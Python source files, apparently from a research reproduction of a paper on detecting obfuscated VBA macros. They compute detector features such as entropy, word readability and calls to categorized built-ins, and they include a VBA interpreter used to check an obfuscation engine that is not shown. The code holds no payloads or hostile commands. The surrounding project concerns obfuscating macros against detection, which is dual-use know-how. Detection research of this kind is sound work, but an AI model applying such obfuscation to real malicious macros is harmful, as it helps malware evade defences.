        + char_histogram[13] + char_histogram[10]
    )
    backslash_chars = int(char_histogram[92])

    token_kind_counts = np.zeros(len(_KIND_INDEX), dtype=np.int64)
    comment_chars = 0
    comment_parts: list[str] = []
    string_token_chars = 0
    string_op_count = 0
    for token in analysis.tokens:
        token_kind_counts[_KIND_INDEX[token.kind]] += 1
        kind = token.kind
        if kind is TokenKind.COMMENT:
            comment_chars += len(token.text)
            comment_parts.append(token.text)
        elif kind is TokenKind.STRING:
            string_token_chars += len(token.text)
        elif kind is TokenKind.OPERATOR and token.text in STRING_CONCAT_OPERATORS:
            string_op_count += 1
    comment_text = "".join(comment_parts)

    lines = source.splitlines()
    line_lengths = np.fromiter(
        (len(line) for line in lines), dtype=np.int64, count=len(lines)
    )
    long_line_count = (
        int((line_lengths > LONG_LINE_THRESHOLD).sum()) if len(lines) else 0
    )

    words = _WORD_PATTERN.findall(source)
    word_lengths = np.fromiter(
        (len(word) for word in words), dtype=np.int64, count=len(words)
    )
    readable_word_count = sum(
        1 for word in words if _is_human_readable(word)
    )
    words_in_comment_count = (
        sum(1 for word in words if word in comment_text) if comment_text else 0
    )

    string_lengths = np.fromiter(
        (len(value) for value in analysis.string_literals),
        dtype=np.int64,
        count=len(analysis.string_literals),
    )
    identifier_lengths = np.fromiter(
        (len(name) for name in analysis.declared_identifiers),
        dtype=np.int64,
        count=len(analysis.declared_identifiers),
    )

    catalog_hits = np.zeros(len(CATALOG_ORDER), dtype=np.int64)
    member_call_count = 0
    for call in analysis.call_sites:
        lowered = call.name.lower()
        if call.is_member:
            member_call_count += 1
        for column, catalog in enumerate(CATALOG_ORDER):
            if lowered in catalog:
                catalog_hits[column] += 1

    argument_lengths = _argument_lengths(analysis.tokens)

    body_count = 0
    body_total_chars = 0
    for match in _FUNCTION_BODY_PATTERN.finditer(source):
        body_count += 1
        body_total_chars += match.end(1) - match.start(1)

    return AnalysisSummary(
        source_chars=len(source),
        code_chars=len(source) - comment_chars,
        comment_chars=comment_chars,
        whitespace_chars=whitespace_chars,
        backslash_chars=backslash_chars,
        entropy=entropy,
        char_histogram=char_histogram,
        line_count=len(lines),
        long_line_count=long_line_count,
        line_lengths=line_lengths,
        token_kind_counts=token_kind_counts,
        comment_count=int(token_kind_counts[_KIND_INDEX[TokenKind.COMMENT]]),
        word_count=len(words),
        word_len_sum=int(word_lengths.sum()),
        word_len_sqsum=int((word_lengths * word_lengths).sum()),
        readable_word_count=readable_word_count,
        words_in_comment_count=words_in_comment_count,
        word_lengths=word_lengths,
        string_count=len(analysis.string_literals),
        string_len_sum=int(string_lengths.sum()),
        string_token_chars=string_token_chars,
        string_op_count=string_op_count,
        string_lengths=string_lengths,
        identifier_count=len(analysis.declared_identifiers),
        identifier_len_sum=int(identifier_lengths.sum()),
        identifier_len_sqsum=int((identifier_lengths * identifier_lengths).sum()),
        identifier_lengths=identifier_lengths,
        call_count=len(analysis.call_sites),
        member_call_count=member_call_count,
        catalog_hits=catalog_hits,
        argument_count=len(argument_lengths),
        argument_len_sum=int(sum(argument_lengths)),
        body_count=body_count,
        body_total_chars=body_total_chars,
    )


def _char_stats(source: str) -> tuple[np.ndarray, float]:
    """Char-class histogram + Shannon entropy from one vectorized pass."""
    if not source:
        return np.zeros(_HIST_BINS, dtype=np.int64), 0.0
    codes = np.frombuffer(source.encode("utf-32-le"), dtype=np.uint32)
    histogram = np.bincount(
        np.minimum(codes, _HIST_OVERFLOW), minlength=_HIST_BINS
    ).astype(np.int64)
    _, counts = np.unique(codes, return_counts=True)
    probabilities = counts / len(codes)
    entropy = float(-(probabilities * np.log2(probabilities)).sum())
    return histogram, entropy


def _is_human_readable(word: str) -> bool:
    """Likarish-style readability: a word looks pronounceable.

    Heuristic: mostly letters, contains a vowel, not absurdly long, and no
    long consonant run (pronounceable English never stacks 4+ consonants the
    way ``rjzybhqrliy``-style random identifiers do).
    """
    if not word or len(word) > 15:
        return False
    letters = sum(1 for ch in word if ch.isalpha())
    if letters < len(word) * 0.5:
        return False
    if not any(ch in _VOWELS for ch in word):
        return False
    run = 0
    for ch in word:
        if ch.isalpha() and ch not in _VOWELS:
            run += 1
            if run >= 4:
                return False
        else:
            run = 0
    return True


def _argument_lengths(all_tokens: list[Token]) -> list[int]:
    """Character lengths of parenthesized call arguments (J9)."""
    lengths: list[int] = []
    tokens = [
        t
        for t in all_tokens
        if t.kind
        not in (TokenKind.WHITESPACE, TokenKind.NEWLINE, TokenKind.EOF)
    ]
    for index, token in enumerate(tokens[:-1]):
        if token.kind is not TokenKind.IDENTIFIER:
            continue
        nxt = tokens[index + 1]
        if nxt.kind is not TokenKind.PUNCT or nxt.text != "(":
            continue
        depth = 0
        size = 0
        for inner in tokens[index + 1 :]:
            if inner.kind is TokenKind.PUNCT and inner.text == "(":
                depth += 1
                if depth == 1:
                    continue
            if inner.kind is TokenKind.PUNCT and inner.text == ")":
                depth -= 1
                if depth == 0:
                    break
            size += len(inner.text)
        lengths.append(size)
    return lengths


# ----------------------------------------------------------------------


def _collect(analysis: MacroAnalysis) -> None:
    tokens = [
        token
        for token in analysis.tokens
        if token.kind
        not in (
            TokenKind.WHITESPACE,
            TokenKind.LINE_CONTINUATION,
            TokenKind.EOF,
        )
    ]
    declared: list[str] = []
    declared_seen: set[str] = set()
    uses: list[str] = []
    calls: list[CallSite] = []
    strings: list[str] = []
    comments: list[str] = []
    procedures: list[str] = []

    def declare(name: str) -> None:
        lowered = name.lower()
        if lowered not in declared_seen:
            declared_seen.add(lowered)
            declared.append(name)

    index = 0
    at_statement_start = True
    while index < len(tokens):
        token = tokens[index]

        if token.kind is TokenKind.NEWLINE or (
            token.kind is TokenKind.PUNCT and token.text == ":"
        ):
            at_statement_start = True
            index += 1
            continue

        if token.kind is TokenKind.COMMENT:
            comments.append(token.text)
            index += 1
            continue

        if token.kind is TokenKind.STRING:
            strings.append(token.string_value)
            at_statement_start = False
            index += 1
            continue

        if token.kind is TokenKind.KEYWORD:
            keyword = token.text.lower()
            if keyword in _PROCEDURE_KEYWORDS:
                index = _scan_procedure(
                    tokens, index, keyword, declare, procedures, strings
                )
                at_statement_start = False
                continue
            if keyword in _DECLARATION_KEYWORDS:
                index = _scan_declaration(tokens, index, declare, strings)
                at_statement_start = False
                continue
            if keyword == "for":
                index = _scan_for(tokens, index, declare)
                at_statement_start = False
                continue
            if keyword == "call" and _kind_at(tokens, index + 1) is TokenKind.IDENTIFIER:
                callee = tokens[index + 1]
                calls.append(CallSite(callee.text, callee.line, is_member=False))
                uses.append(callee.text)
                index += 2
                at_statement_start = False
                continue
            if (
                keyword in ALL_CATEGORIZED_FUNCTIONS
                and _kind_at(tokens, index + 1) is TokenKind.PUNCT
                and tokens[index + 1].text == "("
            ):
                # Callable builtins that lex as keywords: CStr(), CLng(), …
                calls.append(
                    CallSite(
                        token.text, token.line, _is_member_access(tokens, index)
                    )
                )
            at_statement_start = False
            index += 1
            continue

        if token.kind is TokenKind.IDENTIFIER:
            uses.append(token.text)
            is_member = _is_member_access(tokens, index)
            next_kind = _kind_at(tokens, index + 1)
            next_text = tokens[index + 1].text if index + 1 < len(tokens) else ""
            lowered = token.text.lower()
            if next_kind is TokenKind.PUNCT and next_text == "(":
                calls.append(CallSite(token.text, token.line, is_member))
            elif (
                at_statement_start
                and not is_member
                and lowered in ALL_CATEGORIZED_FUNCTIONS
            ):
                # Statement-style invocation: ``Shell program, 1``.
                calls.append(CallSite(token.text, token.line, is_member=False))
            at_statement_start = False
            index += 1
            continue

        at_statement_start = False
        index += 1

    analysis.declared_identifiers = declared
    analysis.identifier_uses = uses
    analysis.call_sites = calls
    analysis.string_literals = strings
    analysis.comments = comments
    analysis.procedure_names = procedures


def _kind_at(tokens: list[Token], index: int) -> TokenKind | None:
    if 0 <= index < len(tokens):
        return tokens[index].kind
    return None


def _is_member_access(tokens: list[Token], index: int) -> bool:
    if index == 0:
        return False
    prev = tokens[index - 1]
    return prev.kind is TokenKind.PUNCT and prev.text == "."


def _scan_procedure(
    tokens: list[Token],
    index: int,
    keyword: str,
    declare,
    procedures: list[str],
    strings: list[str],
) -> int:
    """Handle ``Sub name(params)`` / ``Function name(...)`` / ``Property Get name``.

    Returns the index to resume scanning from.
    """
    cursor = index + 1
    if keyword == "property" and _kind_at(tokens, cursor) in (
        TokenKind.KEYWORD,
        TokenKind.IDENTIFIER,
    ):
        accessor = tokens[cursor].text.lower()
        if accessor in ("get", "let", "set"):
            cursor += 1
    if _kind_at(tokens, cursor) is not TokenKind.IDENTIFIER:
        # ``End Sub`` / ``Exit Function`` — nothing declared here.
        return index + 1
    name_token = tokens[cursor]
    declare(name_token.text)
    procedures.append(name_token.text)
    cursor += 1
    # Parameters: ``(ByVal a As String, Optional b)``.
    if (
        _kind_at(tokens, cursor) is TokenKind.PUNCT
        and tokens[cursor].text == "("
    ):
        depth = 0
        expecting_name = True
        while cursor < len(tokens):
            token = tokens[cursor]
            if token.kind is TokenKind.PUNCT and token.text == "(":
                depth += 1
            elif token.kind is TokenKind.PUNCT and token.text == ")":
                depth -= 1
                if depth == 0:
                    cursor += 1
                    break
            elif token.kind is TokenKind.PUNCT and token.text == "," and depth == 1:
                expecting_name = True
            elif token.kind is TokenKind.KEYWORD:
                lowered = token.text.lower()
                if lowered == "as":
                    expecting_name = False
                # byval/byref/optional/paramarray keep us expecting a name.
            elif token.kind is TokenKind.IDENTIFIER and expecting_name and depth == 1:
                declare(token.text)
                expecting_name = False
            elif token.kind is TokenKind.STRING:
                strings.append(token.string_value)
            cursor += 1
    return cursor


def _scan_declaration(
    tokens: list[Token], index: int, declare, strings: list[str]
) -> int:
    """Handle ``Dim a As X, b(10) As Y`` and friends on one logical line."""
    cursor = index + 1
    expecting_name = True
    depth = 0
    while cursor < len(tokens):
        token = tokens[cursor]
        if token.kind is TokenKind.NEWLINE:
            break
        if token.kind is TokenKind.PUNCT:
            if token.text == "(":
                depth += 1
            elif token.text == ")":
                depth = max(0, depth - 1)
            elif token.text == "," and depth == 0:
                expecting_name = True
            elif token.text == ":":
                break
        elif token.kind is TokenKind.OPERATOR and token.text == "=" and depth == 0:
            # ``Const x = 5``: the initializer is an expression, stop naming.
            expecting_name = False
        elif token.kind is TokenKind.KEYWORD:
            if token.text.lower() == "as":
                expecting_name = False
        elif token.kind is TokenKind.IDENTIFIER and expecting_name and depth == 0:
            declare(token.text)
            expecting_name = False
        elif token.kind is TokenKind.STRING:
            strings.append(token.string_value)
        cursor += 1
    return cursor


def _scan_for(tokens: list[Token], index: int, declare) -> int:
    """Handle ``For i = ...`` and ``For Each cell In ...`` loop variables."""
    cursor = index + 1
    if (
        _kind_at(tokens, cursor) is TokenKind.KEYWORD
        and tokens[cursor].text.lower() == "each"
    ):
        cursor += 1
    if _kind_at(tokens, cursor) is TokenKind.IDENTIFIER:
        declare(tokens[cursor].text)
        cursor += 1
    return cursor
