"""Structural analysis of VBA macro source code.

:class:`MacroAnalysis` is the single shared substrate for feature extraction
(:mod:`repro.features`) and for the obfuscation engine
(:mod:`repro.obfuscation`).  From one lexer pass it derives:

* declared identifiers — procedure names, parameters, ``Dim``/``Const``/
  ``ReDim``/``For Each`` variables — which is exactly the set O1 random
  obfuscation renames;
* call sites — names invoked with ``(...)``, via ``Call``, or in statement
  position — categorized against the built-in catalogs for V8–V12;
* string literals, comments, and the paper's notion of "words" (units
  delimited by whitespace and VBA symbols, following Likarish et al.).
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

from repro.vba.functions import ALL_CATEGORIZED_FUNCTIONS
from repro.vba.lexer import tokenize
from repro.vba.tokens import Token, TokenKind

# Keywords that introduce a procedure whose following identifier is the
# procedure name.
_PROCEDURE_KEYWORDS = frozenset({"sub", "function", "property"})

# Keywords that introduce variable declarations whose following identifiers
# (comma-separated, possibly with ``As Type`` clauses) are declared names.
_DECLARATION_KEYWORDS = frozenset({"dim", "const", "redim", "static"})

_WORD_PATTERN = re.compile(r"[A-Za-z0-9_$#@%!&]+")


@dataclass(slots=True)
class CallSite:
    """A function / procedure invocation found in the source."""

    name: str
    line: int
    is_member: bool  # invoked as ``object.Name(...)``


@dataclass(slots=True)
class MacroAnalysis:
    """The result of analyzing one VBA module's source code."""

    source: str
    tokens: list[Token] = field(default_factory=list)
    declared_identifiers: list[str] = field(default_factory=list)
    identifier_uses: list[str] = field(default_factory=list)
    call_sites: list[CallSite] = field(default_factory=list)
    string_literals: list[str] = field(default_factory=list)
    comments: list[str] = field(default_factory=list)
    procedure_names: list[str] = field(default_factory=list)

    # ------------------------------------------------------------------
    # Derived text measures used by the feature extractors.

    @property
    def code_without_comments(self) -> str:
        """The source with comment token text removed (other text intact)."""
        parts = [
            token.text
            for token in self.tokens
            if token.kind is not TokenKind.COMMENT
        ]
        return "".join(parts)

    @property
    def comment_text(self) -> str:
        """All comment text concatenated (markers included)."""
        return "".join(
            token.text for token in self.tokens if token.kind is TokenKind.COMMENT
        )

    @property
    def words(self) -> list[str]:
        """The paper's 'words': maximal runs delimited by whitespace/symbols."""
        return _WORD_PATTERN.findall(self.source)

    @property
    def lines(self) -> list[str]:
        return self.source.splitlines()

    def operator_count(self, operators: frozenset[str]) -> int:
        """Count OPERATOR tokens whose text is in ``operators``."""
        return sum(
            1
            for token in self.tokens
            if token.kind is TokenKind.OPERATOR and token.text in operators
        )

    def called_builtin_fraction(self, catalog: frozenset[str]) -> float:
        """Fraction of call sites whose name is in ``catalog`` (lower-case)."""
        if not self.call_sites:
            return 0.0
        hits = sum(1 for call in self.call_sites if call.name.lower() in catalog)
        return hits / len(self.call_sites)


def analyze(source: str) -> MacroAnalysis:
    """Run the full structural analysis over one module's source code."""
    analysis = MacroAnalysis(source=source)
    analysis.tokens = tokenize(source)
    _collect(analysis)
    return analysis


# ----------------------------------------------------------------------


def _collect(analysis: MacroAnalysis) -> None:
    tokens = [
        token
        for token in analysis.tokens
        if token.kind
        not in (
            TokenKind.WHITESPACE,
            TokenKind.LINE_CONTINUATION,
            TokenKind.EOF,
        )
    ]
    declared: list[str] = []
    declared_seen: set[str] = set()
    uses: list[str] = []
    calls: list[CallSite] = []
    strings: list[str] = []
    comments: list[str] = []
    procedures: list[str] = []

    def declare(name: str) -> None:
        lowered = name.lower()
        if lowered not in declared_seen:
            declared_seen.add(lowered)
            declared.append(name)

    index = 0
    at_statement_start = True
    while index < len(tokens):
        token = tokens[index]

        if token.kind is TokenKind.NEWLINE or (
            token.kind is TokenKind.PUNCT and token.text == ":"
        ):
            at_statement_start = True
            index += 1
            continue

        if token.kind is TokenKind.COMMENT:
            comments.append(token.text)
            index += 1
            continue

        if token.kind is TokenKind.STRING:
            strings.append(token.string_value)
            at_statement_start = False
            index += 1
            continue

        if token.kind is TokenKind.KEYWORD:
            keyword = token.text.lower()
            if keyword in _PROCEDURE_KEYWORDS:
                index = _scan_procedure(
                    tokens, index, keyword, declare, procedures, strings
                )
                at_statement_start = False
                continue
            if keyword in _DECLARATION_KEYWORDS:
                index = _scan_declaration(tokens, index, declare, strings)
                at_statement_start = False
                continue
            if keyword == "for":
                index = _scan_for(tokens, index, declare)
                at_statement_start = False
                continue
            if keyword == "call" and _kind_at(tokens, index + 1) is TokenKind.IDENTIFIER:
                callee = tokens[index + 1]
                calls.append(CallSite(callee.text, callee.line, is_member=False))
                uses.append(callee.text)
                index += 2
                at_statement_start = False
                continue
            if (
                keyword in ALL_CATEGORIZED_FUNCTIONS
                and _kind_at(tokens, index + 1) is TokenKind.PUNCT
                and tokens[index + 1].text == "("
            ):
                # Callable builtins that lex as keywords: CStr(), CLng(), …
                calls.append(
                    CallSite(
                        token.text, token.line, _is_member_access(tokens, index)
                    )
                )
            at_statement_start = False
            index += 1
            continue

        if token.kind is TokenKind.IDENTIFIER:
            uses.append(token.text)
            is_member = _is_member_access(tokens, index)
            next_kind = _kind_at(tokens, index + 1)
            next_text = tokens[index + 1].text if index + 1 < len(tokens) else ""
            lowered = token.text.lower()
            if next_kind is TokenKind.PUNCT and next_text == "(":
                calls.append(CallSite(token.text, token.line, is_member))
            elif (
                at_statement_start
                and not is_member
                and lowered in ALL_CATEGORIZED_FUNCTIONS
            ):
                # Statement-style invocation: ``Shell program, 1``.
                calls.append(CallSite(token.text, token.line, is_member=False))
            at_statement_start = False
            index += 1
            continue

        at_statement_start = False
        index += 1

    analysis.declared_identifiers = declared
    analysis.identifier_uses = uses
    analysis.call_sites = calls
    analysis.string_literals = strings
    analysis.comments = comments
    analysis.procedure_names = procedures


def _kind_at(tokens: list[Token], index: int) -> TokenKind | None:
    if 0 <= index < len(tokens):
        return tokens[index].kind
    return None


def _is_member_access(tokens: list[Token], index: int) -> bool:
    if index == 0:
        return False
    prev = tokens[index - 1]
    return prev.kind is TokenKind.PUNCT and prev.text == "."


def _scan_procedure(
    tokens: list[Token],
    index: int,
    keyword: str,
    declare,
    procedures: list[str],
    strings: list[str],
) -> int:
    """Handle ``Sub name(params)`` / ``Function name(...)`` / ``Property Get name``.

    Returns the index to resume scanning from.
    """
    cursor = index + 1
    if keyword == "property" and _kind_at(tokens, cursor) in (
        TokenKind.KEYWORD,
        TokenKind.IDENTIFIER,
    ):
        accessor = tokens[cursor].text.lower()
        if accessor in ("get", "let", "set"):
            cursor += 1
    if _kind_at(tokens, cursor) is not TokenKind.IDENTIFIER:
        # ``End Sub`` / ``Exit Function`` — nothing declared here.
        return index + 1
    name_token = tokens[cursor]
    declare(name_token.text)
    procedures.append(name_token.text)
    cursor += 1
    # Parameters: ``(ByVal a As String, Optional b)``.
    if (
        _kind_at(tokens, cursor) is TokenKind.PUNCT
        and tokens[cursor].text == "("
    ):
        depth = 0
        expecting_name = True
        while cursor < len(tokens):
            token = tokens[cursor]
            if token.kind is TokenKind.PUNCT and token.text == "(":
                depth += 1
            elif token.kind is TokenKind.PUNCT and token.text == ")":
                depth -= 1
                if depth == 0:
                    cursor += 1
                    break
            elif token.kind is TokenKind.PUNCT and token.text == "," and depth == 1:
                expecting_name = True
            elif token.kind is TokenKind.KEYWORD:
                lowered = token.text.lower()
                if lowered == "as":
                    expecting_name = False
                # byval/byref/optional/paramarray keep us expecting a name.
            elif token.kind is TokenKind.IDENTIFIER and expecting_name and depth == 1:
                declare(token.text)
                expecting_name = False
            elif token.kind is TokenKind.STRING:
                strings.append(token.string_value)
            cursor += 1
    return cursor


def _scan_declaration(
    tokens: list[Token], index: int, declare, strings: list[str]
) -> int:
    """Handle ``Dim a As X, b(10) As Y`` and friends on one logical line."""
    cursor = index + 1
    expecting_name = True
    depth = 0
    while cursor < len(tokens):
        token = tokens[cursor]
        if token.kind is TokenKind.NEWLINE:
            break
        if token.kind is TokenKind.PUNCT:
            if token.text == "(":
                depth += 1
            elif token.text == ")":
                depth = max(0, depth - 1)
            elif token.text == "," and depth == 0:
                expecting_name = True
            elif token.text == ":":
                break
        elif token.kind is TokenKind.OPERATOR and token.text == "=" and depth == 0:
            # ``Const x = 5``: the initializer is an expression, stop naming.
            expecting_name = False
        elif token.kind is TokenKind.KEYWORD:
            if token.text.lower() == "as":
                expecting_name = False
        elif token.kind is TokenKind.IDENTIFIER and expecting_name and depth == 0:
            declare(token.text)
            expecting_name = False
        elif token.kind is TokenKind.STRING:
            strings.append(token.string_value)
        cursor += 1
    return cursor


def _scan_for(tokens: list[Token], index: int, declare) -> int:
    """Handle ``For i = ...`` and ``For Each cell In ...`` loop variables."""
    cursor = index + 1
    if (
        _kind_at(tokens, cursor) is TokenKind.KEYWORD
        and tokens[cursor].text.lower() == "each"
    ):
        cursor += 1
    if _kind_at(tokens, cursor) is TokenKind.IDENTIFIER:
        declare(tokens[cursor].text)
        cursor += 1
    return cursor
