"""VBA language substrate: lexer, structural analyzer, built-in catalogs."""

from repro.vba.analyzer import CallSite, MacroAnalysis, analyze
from repro.vba.lexer import Lexer, significant_tokens, tokenize
from repro.vba.tokens import Token, TokenKind, VBA_KEYWORDS
from repro.vba.writer import CodeWriter, chunk_string, quote_vba_string

__all__ = [
    "CallSite",
    "CodeWriter",
    "Lexer",
    "MacroAnalysis",
    "Token",
    "TokenKind",
    "VBA_KEYWORDS",
    "analyze",
    "chunk_string",
    "quote_vba_string",
    "significant_tokens",
    "tokenize",
]
