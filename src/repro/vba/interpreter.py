"""Tree-walking interpreter for the executable VBA subset.

Executes modules parsed by :mod:`repro.vba.parser`.  The interpreter exists
to *verify* the obfuscation engine: running the original and the obfuscated
macro and comparing observable results proves the transforms are
semantics-preserving (the defining property of obfuscation per Section III
of the paper).

Scope notes:

* Function return values follow VBA convention: assignment to the function's
  own name inside its body.
* ``Array(...)`` produces zero-based arrays (``Option Base 0``).
* Host-application member access (``ActiveDocument…``) is outside the
  executable subset and raises :class:`VBARuntimeError`; obfuscated samples
  that use §VI.B string hiding can supply the hidden values through
  ``host_values``.
* A step budget guards against runaway loops in generated junk code.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.vba import ast_nodes as ast
from repro.vba.parser import parse_module


class VBARuntimeError(Exception):
    """Raised when execution leaves the supported subset or errors out."""

    def __init__(self, message: str, line: int = 0) -> None:
        super().__init__(f"line {line}: {message}" if line else message)
        self.line = line


class _ExitSignal(Exception):
    def __init__(self, kind: str) -> None:
        self.kind = kind


_MISSING = object()


@dataclass
class Interpreter:
    """Executes one module.

    Attributes:
        module: the parsed module.
        host_values: values for host storage reads (document variables /
            control captions), keyed by the storage expression's rendered
            text — see :meth:`_eval_member`.
        max_steps: statement-execution budget.
    """

    module: ast.Module
    host_values: dict[str, object] = field(default_factory=dict)
    max_steps: int = 2_000_000

    def __post_init__(self) -> None:
        self._globals: dict[str, object] = {}
        self._steps = 0
        self._run_module_level()

    # ------------------------------------------------------------------

    @classmethod
    def from_source(
        cls,
        source: str,
        host_values: dict[str, object] | None = None,
        max_steps: int = 2_000_000,
    ) -> "Interpreter":
        return cls(parse_module(source), host_values or {}, max_steps)

    def call(self, name: str, *args: object) -> object:
        """Invoke a module procedure; returns its value (None for Subs)."""
        procedure = self.module.procedures.get(name.lower())
        if procedure is None:
            raise VBARuntimeError(f"no procedure {name!r}")
        return self._call_procedure(procedure, list(args))

    def global_value(self, name: str) -> object:
        value = self._globals.get(name.lower(), _MISSING)
        if value is _MISSING:
            raise VBARuntimeError(f"no global {name!r}")
        return value

    # ------------------------------------------------------------------

    def _run_module_level(self) -> None:
        for statement in self.module.module_statements:
            self._execute(statement, self._globals)

    def _call_procedure(self, procedure: ast.Procedure, args: list[object]) -> object:
        if len(args) > len(procedure.params):
            raise VBARuntimeError(
                f"{procedure.name}: too many arguments", procedure.line
            )
        locals_: dict[str, object] = {
            param.lower(): (args[index] if index < len(args) else None)
            for index, param in enumerate(procedure.params)
        }
        if procedure.kind == "function":
            locals_[procedure.name.lower()] = None
        try:
            for statement in procedure.body:
                self._execute(statement, locals_)
        except _ExitSignal as signal:
            if signal.kind not in ("sub", "function"):
                raise VBARuntimeError(
                    f"Exit {signal.kind} outside loop", procedure.line
                ) from None
        if procedure.kind == "function":
            return locals_[procedure.name.lower()]
        return None

    # ------------------------------------------------------------------
    # Statement execution

    def _tick(self, line: int) -> None:
        self._steps += 1
        if self._steps > self.max_steps:
            raise VBARuntimeError("step budget exceeded", line)

    def _execute(self, statement: ast.Statement, env: dict[str, object]) -> None:
        self._tick(statement.line)
        method = self._DISPATCH[type(statement)]
        method(self, statement, env)

    def _exec_dim(self, statement: ast.DimStmt, env: dict[str, object]) -> None:
        for name, extent in statement.names:
            if extent is not None:
                size = self._as_int(self._eval(extent, env), statement.line)
                env[name.lower()] = [None] * (size + 1)
            else:
                env.setdefault(name.lower(), None)

    def _exec_const(self, statement: ast.ConstStmt, env: dict[str, object]) -> None:
        env[statement.name.lower()] = self._eval(statement.value, env)

    def _exec_assign(self, statement: ast.Assign, env: dict[str, object]) -> None:
        value = self._eval(statement.value, env)
        target = statement.target
        if isinstance(target, ast.Name):
            self._store(target.name, value, env)
            return
        if isinstance(target, ast.MemberAccess):
            # Host-object property write: inert without a host application.
            return
        # ``arr(i) = value`` element assignment.
        container = self._load(target.name, env, target.line)
        if not isinstance(container, list):
            raise VBARuntimeError(
                f"{target.name} is not an array", target.line
            )
        if len(target.args) != 1:
            raise VBARuntimeError(
                "only 1-D element assignment supported", target.line
            )
        index = self._as_int(self._eval(target.args[0], env), target.line)
        if not 0 <= index < len(container):
            raise VBARuntimeError(
                f"subscript out of range: {index}", target.line
            )
        container[index] = value

    def _exec_if(self, statement: ast.IfStmt, env: dict[str, object]) -> None:
        for condition, body in statement.branches:
            if self._truthy(self._eval(condition, env)):
                for inner in body:
                    self._execute(inner, env)
                return
        for inner in statement.else_body:
            self._execute(inner, env)

    def _exec_for(self, statement: ast.ForStmt, env: dict[str, object]) -> None:
        start = self._as_number(self._eval(statement.start, env), statement.line)
        end = self._as_number(self._eval(statement.end, env), statement.line)
        step = (
            self._as_number(self._eval(statement.step, env), statement.line)
            if statement.step is not None
            else 1
        )
        if step == 0:
            raise VBARuntimeError("For step cannot be 0", statement.line)
        var = statement.var.lower()
        current = start
        try:
            while (step > 0 and current <= end) or (step < 0 and current >= end):
                env[var] = current
                for inner in statement.body:
                    self._execute(inner, env)
                current = env[var] + step  # body may reassign the loop var
        except _ExitSignal as signal:
            if signal.kind != "for":
                raise

    def _exec_for_each(
        self, statement: ast.ForEachStmt, env: dict[str, object]
    ) -> None:
        iterable = self._eval(statement.iterable, env)
        if not isinstance(iterable, list):
            raise VBARuntimeError("For Each needs an array", statement.line)
        var = statement.var.lower()
        try:
            for item in iterable:
                env[var] = item
                for inner in statement.body:
                    self._execute(inner, env)
        except _ExitSignal as signal:
            if signal.kind != "for":
                raise

    def _exec_do(self, statement: ast.DoLoopStmt, env: dict[str, object]) -> None:
        def check() -> bool:
            value = self._truthy(self._eval(statement.condition, env))
            return value if statement.condition_kind == "while" else not value

        try:
            if statement.pre_test:
                while check():
                    for inner in statement.body:
                        self._execute(inner, env)
            else:
                while True:
                    for inner in statement.body:
                        self._execute(inner, env)
                    if not check():
                        break
        except _ExitSignal as signal:
            if signal.kind != "do":
                raise

    def _exec_with(self, statement: ast.WithStmt, env: dict[str, object]) -> None:
        # The subject is almost always a host object; evaluate best-effort
        # so pure subjects still raise useful errors, then run the body.
        try:
            self._eval(statement.subject, env)
        except VBARuntimeError:
            pass
        for inner in statement.body:
            self._execute(inner, env)

    def _exec_exit(self, statement: ast.ExitStmt, env: dict[str, object]) -> None:
        raise _ExitSignal(statement.kind)

    def _exec_call(self, statement: ast.CallStmt, env: dict[str, object]) -> None:
        if isinstance(statement.call, ast.MemberAccess):
            # Statement-position host call (``stream.Open``): resolve if a
            # host value is registered, otherwise it is an inert side-effect.
            try:
                self._eval_member(statement.call, env)
            except VBARuntimeError:
                pass
            return
        self._eval_call(statement.call, env)

    def _exec_noop(self, statement: ast.NoOpStmt, env: dict[str, object]) -> None:
        return

    _DISPATCH = {
        ast.DimStmt: _exec_dim,
        ast.ConstStmt: _exec_const,
        ast.Assign: _exec_assign,
        ast.IfStmt: _exec_if,
        ast.ForStmt: _exec_for,
        ast.ForEachStmt: _exec_for_each,
        ast.DoLoopStmt: _exec_do,
        ast.WithStmt: _exec_with,
        ast.ExitStmt: _exec_exit,
        ast.CallStmt: _exec_call,
        ast.NoOpStmt: _exec_noop,
    }

    # ------------------------------------------------------------------
    # Name binding

    def _store(self, name: str, value: object, env: dict[str, object]) -> None:
        key = name.lower()
        if key in env:
            env[key] = value
        elif key in self._globals:
            self._globals[key] = value
        else:
            env[key] = value

    def _load(self, name: str, env: dict[str, object], line: int) -> object:
        key = name.lower()
        if key in env:
            return env[key]
        if key in self._globals:
            return self._globals[key]
        raise VBARuntimeError(f"undefined name {name!r}", line)

    # ------------------------------------------------------------------
    # Expression evaluation

    def _eval(self, expression: ast.Expression, env: dict[str, object]) -> object:
        if isinstance(expression, ast.Literal):
            return expression.value
        if isinstance(expression, ast.Name):
            return self._eval_name(expression, env)
        if isinstance(expression, ast.Call):
            return self._eval_call(expression, env)
        if isinstance(expression, ast.MemberAccess):
            return self._eval_member(expression, env)
        if isinstance(expression, ast.BinOp):
            return self._eval_binop(expression, env)
        if isinstance(expression, ast.UnaryOp):
            operand = self._eval(expression.operand, env)
            if expression.op == "-":
                return -self._as_number(operand, expression.line)
            return not self._truthy(operand)
        raise VBARuntimeError(f"cannot evaluate {expression!r}")

    def _eval_name(self, expression: ast.Name, env: dict[str, object]) -> object:
        key = expression.name.lower()
        if key in env:
            return env[key]
        if key in self._globals:
            return self._globals[key]
        # Zero-argument builtin or procedure used as a value.
        if key in _BUILTINS:
            return _BUILTINS[key](self, [], expression.line)
        procedure = self.module.procedures.get(key)
        if procedure is not None:
            return self._call_procedure(procedure, [])
        raise VBARuntimeError(
            f"undefined name {expression.name!r}", expression.line
        )

    def _eval_call(self, expression: ast.Call, env: dict[str, object]) -> object:
        key = expression.name.lower()
        # Array indexing shares call syntax.
        bound = env.get(key, self._globals.get(key, _MISSING))
        if isinstance(bound, list):
            if len(expression.args) != 1:
                raise VBARuntimeError(
                    "only 1-D array indexing supported", expression.line
                )
            index = self._as_int(
                self._eval(expression.args[0], env), expression.line
            )
            if not 0 <= index < len(bound):
                raise VBARuntimeError(
                    f"subscript out of range: {index}", expression.line
                )
            return bound[index]
        if isinstance(bound, str):
            raise VBARuntimeError(
                f"{expression.name} is not callable", expression.line
            )
        procedure = self.module.procedures.get(key)
        if procedure is not None:
            args = [self._eval(arg, env) for arg in expression.args]
            return self._call_procedure(procedure, args)
        builtin = _BUILTINS.get(key)
        if builtin is not None:
            args = [self._eval(arg, env) for arg in expression.args]
            return builtin(self, args, expression.line)
        raise VBARuntimeError(
            f"unknown function {expression.name!r}", expression.line
        )

    def _eval_member(
